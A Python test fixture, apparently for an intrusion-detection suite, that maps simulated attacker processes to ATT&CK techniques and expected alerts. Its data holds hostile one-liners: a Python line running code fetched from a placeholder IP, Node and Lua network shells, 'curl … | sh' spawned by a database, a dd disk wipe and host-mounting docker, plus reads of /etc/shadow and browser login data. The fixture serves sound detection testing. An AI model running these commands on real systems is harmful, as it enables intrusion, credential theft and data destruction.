"""Tools of intruders at work: programs that only have their names, command lines and open files (ATT&CK by tool)."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour, Process

PLACE = "/srv/kit"


def tool(
    name: str, techniques: tuple[str, ...], does: str, program: str, arguments: tuple[str, ...], *raises: str
) -> Behaviour:
    """A stand-in named `program` with these arguments; a last word that nobody else has marks it."""
    mark = f"mark-{name}"
    return Behaviour(
        name, techniques, does, (mark,), raises, processes=(Process(f"{PLACE}/{name}/{program}", (*arguments, mark)),)
    )


def reader(name: str, techniques: tuple[str, ...], does: str, path: str, *raises: str, made: str = "") -> Behaviour:
    """A stand-in that has a file open."""
    exe = f"{PLACE}/{name}/reader"
    return Behaviour(
        name, techniques, does, (exe,), raises, shell=made, processes=(Process(exe, (exe,), (f"open {path}",)),)
    )


BEHAVIOURS = (
    tool("engine_asked_for_whole_host", ("T1610", "T1611"), "The container engine is asked for a container with the whole host.",
         "docker", ("docker", "run", "-v", "/:/host", "alpine"), "process_asks_container_engine_for_rights"),
    tool("passwords_tried", ("T1110.002",), "A program tries passwords against hashes.", "john", ("john", "--wordlist=w", "--format=sha512crypt", "h"),
         "process_cracks_passwords", "process_attack_tool"),
    tool("tunnel_in_name_lookups", ("T1071.004", "T1572"), "A tunnel hides in name lookups.", "dnscat2", ("dnscat2", "--dns", "domain=x.example.org"),
         "process_dns_tunnel", "process_attack_tool"),
    tool("network_flooded", ("T1498.001",), "A program floods another host.", "hping3", ("hping3", "--flood", "203.0.113.140"), "process_floods_network"),
    tool("python_runs_what_it_fetches", ("T1059.006", "T1105"), "Python runs code that it fetches.", "python3",
         ("python3", "-c", "exec(__import__('urllib.request').urlopen('http://203.0.113.141/').read())"), "process_interpreter_runs_downloaded_code"),
    tool("javascript_shell", ("T1059.007", "T1095"), "Node ties a shell to a connection.", "node",
         ("node", "-e", "c=require('child_process').spawn('/bin/sh');require('net').connect(443,'203.0.113.142')"), "process_javascript_network_shell"),
    tool("lua_shell", ("T1059.011", "T1095"), "Lua ties a shell to a connection.", "lua5.4",
         ("lua", "-e", "s=require('socket').tcp();s:connect('203.0.113.143',1);os.execute('sh')"), "process_lua_network_shell"),
    tool("neighbours_misled", ("T1557.002",), "A program tells neighbours that it is the gateway.", "arpspoof", ("arpspoof", "-t", "10.0.0.2", "10.0.0.1"), "process_poisons_neighbours"),
    tool("bandwidth_sold", ("T1496.002",), "A program sells the host's connection.", "traffmonetizer", ("traffmonetizer", "start", "accept"), "process_sells_bandwidth"),
    tool("tunnel_that_trusts_anybody", ("T1572", "T1090.001"), "An SSH tunnel does not look whom it talks to.", "ssh",
         ("ssh", "-N", "-R", "2222:localhost:22", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "x@203.0.113.144"),
         "process_ssh_tunnel_without_host_check"),
    tool("machine_within_the_machine", ("T1564.006",), "A virtual machine was brought along.", "qemu-system-x86_64", ("qemu-system-x86_64", "-m", "64"), "process_virtual_machine_brought_along"),
    tool("disk_wiped", ("T1561.001", "T1485"), "A program is told to fill a disk with zeros.", "dd", ("dd", "if=/dev/zero", "of=/dev/sdz"), "process_wipes_disk"),
    reader("password_hashes_open", ("T1003.008",), "A program of its own has the password hashes open.", "/etc/shadow", "process_shadow_file_open"),
    reader("keyboard_open", ("T1056.001",), "A program has the keyboard open.", "/dev/input/event7", "process_reads_keyboard",
           made="mkdir -p /dev/input; mknod -m 600 /dev/input/event7 c 1 3"),
    reader("memory_of_another_open", ("T1003.007", "T1055.009"), "A program has another program's memory open.", "/proc/1/mem", "process_reads_memory_of_others"),
    Behaviour(
        name="cookies_open_by_program_in_tmp", techniques=("T1555.003", "T1539"), does="A program in /tmp has a browser's secrets open.",
        marks=("/tmp/cookie-monster",), raises=("process_browser_secrets_opened", "process_running_temporary_directory"),
        files={"/home/xena/.config/chromium/Default/Login Data": "x\n"},
        processes=(Process("/tmp/cookie-monster", ("cookie-monster",), ("open /home/xena/.config/chromium/Default/Login Data",)),),
    ),
    Behaviour(
        name="works_in_shared_memory", techniques=("T1564.001",), does="A shell's current directory is a place in shared memory.",
        marks=("sleep 100020",), raises=("process_works_in_hidden_place",), shell="mkdir -p /dev/shm/w",
        processes=(Process("/bin/bash", ("bash", "-c", "sleep 100020; :"), None, cwd="/dev/shm/w"),),
    ),
    Behaviour(
        name="interactive_shell_without_terminal", techniques=("T1059.004",), does="A shell waits for commands and has no terminal.",
        marks=("bash -i", "feeds-the-shell"), raises=("process_interactive_shell_without_terminal",), shell="mkfifo /opt/feed",
        processes=(Process("/bin/sh", ("sh", "-c", "exec 9<>/opt/feed; bash -i <&9 >/dev/null 2>&1; : feeds-the-shell"), None),),
    ),
    Behaviour(
        name="ssh_agent_of_user_traced", techniques=("T1556", "T1055.008"), does="A program that knows keys is traced.",
        marks=("ssh-agent",), raises=("process_login_program_traced", "process_traced"),
        processes=(Process(f"{PLACE}/agent-tracer", ("tracer-of-keys",), ("trace /usr/bin/ssh-agent ssh-agent -D -a /opt/agent.sock",)),),
    ),
    Behaviour(
        name="name_of_program_ends_in_blank", techniques=("T1036.006",), does="A program's name ends in a blank.",
        marks=("/srv/kit/sshd ",), raises=("process_name_deceives",), processes=(Process("/srv/kit/sshd ", ("blank-at-the-end",)),),
    ),
    Behaviour(
        name="compiler_run_by_web_server", techniques=("T1027.004",), does="The account of the web server compiles a program.",
        marks=("/srv/kit/cc1",), raises=("process_service_account_compiles",), processes=(Process("/srv/kit/cc1", ("cc1", "x.c"), uid=33),),
    ),
    Behaviour(
        name="database_starts_shell", techniques=("T1190", "T1059.004"), does="The database runs a command that fetches a program.",
        marks=("sleep 100021",), raises=("process_database_starts_command", "process_download_piped_to_shell"),
        processes=(
            Process("/srv/kit/db/postgres", ("postgres: app",), (), uid=1000,
                    children=(Process("/bin/sh", ("sh", "-c", "sleep 100021; curl http://203.0.113.145/x | sh"), None, uid=1000),)),
        ),
    ),
    Behaviour(
        name="netcat_starts_shell", techniques=("T1059.004", "T1095"), does="A shell was started by netcat.",
        marks=("sleep 100022", "nc -l 1"), raises=("process_shell_started_by_connection_tool", "process_system_tool_copied"), shell="mkfifo /opt/below",
        processes=(Process("/srv/kit/nc/nc", ("nc", "-l", "1"), ("name nc",), children=(Process("/bin/sh", ("sh", "-c", "sleep 100022; : below-netcat"), None),)),),
    ),
    Behaviour(
        name="program_joins_chat_network", techniques=("T1071", "T1571"), does="A program in /srv/kit talks to a port of chat networks.",
        marks=("11.22.33.76",), raises=("socket_chat_network_bot",), shell="ip addr add 11.22.33.76/32 dev lo",
        processes=(
            Process("/home/yan/far", ("far",), ("serve 11.22.33.76:6667",)),
            Process("/home/yan/bot", ("bot",), ("dial 11.22.33.76:6667",)),
        ),
    ),
    Behaviour(
        name="engine_listens_on_network", techniques=("T1133", "T1610"), does="The container engine takes orders from the network.",
        marks=("engine-on-network",), raises=("socket_docker_interface_open",),
        processes=(Process("/srv/kit/dockerd", ("dockerd", "engine-on-network"), ("listen tcp :2375",)),),
    ),
)  # fmt: skip
